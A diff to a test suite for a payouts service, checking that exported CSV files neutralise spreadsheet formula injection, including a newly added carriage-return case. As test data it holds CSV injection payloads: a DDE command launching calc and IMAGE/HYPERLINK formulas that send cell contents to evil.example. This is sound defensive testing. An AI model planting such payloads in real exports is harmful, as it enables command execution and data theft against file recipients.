@@ -46,7 +46,8 @@ test('the payouts CSV and the affiliate report CSV never start a cell or a line 
     const affiliate = await createAffiliate(world, programId);
     await affiliates.put('/affiliates', { affiliateId: affiliate.id, payoutDetails: { method: 'PAYPAL', email: affiliate.email, note: 'monthly' } }).expect(200);
     const { lastName, note } = payloads(lineBreak);
-    await stored.updateOne({ _id: affiliate.id as never }, { $set: { firstName: '=cmd|"/C calc"!A0', lastName, 'payoutDetails.note': note } });
+    // The account holder starts with a bare CR: the line after it must be defused too.
+    await stored.updateOne({ _id: affiliate.id as never }, { $set: { firstName: '=cmd|"/C calc"!A0', lastName, 'payoutDetails.note': note, 'payoutDetails.accountHolder': '\r=1+2' } });
     const referral = await createReferral(world, programId, { affiliateId: affiliate.id });
     await world.api(world.sale, programId).post('/sales', { referralId: referral.id, totalEarned: 100 }).expect(200);
     byBreak.set(affiliate.id, name);
@@ -63,6 +64,7 @@ test('the payouts CSV and the affiliate report CSV never start a cell or a line 
     // Kept whole, with every line defused: nothing lost, nothing run.
     expect(row.note).toBe(['paid monthly', `'=IMAGE("http://evil.example/?"&H3)`, "'+1", "'-2", "'@SUM(A1)", "'\t=1"].join(lineBreak));
     expect(row.name).toBe(`'=cmd|"/C calc"!A0 Hopper${lineBreak}'=HYPERLINK("http://evil.example/?"&A2)`);
+    expect(row.account_holder).toBe("'\r'=1+2");
   }
   for (const payout of payouts) {
     const exported = await world.api(world.sale, programId).get('/payouts/export').query({ payoutId: payout.id }).expect(200);
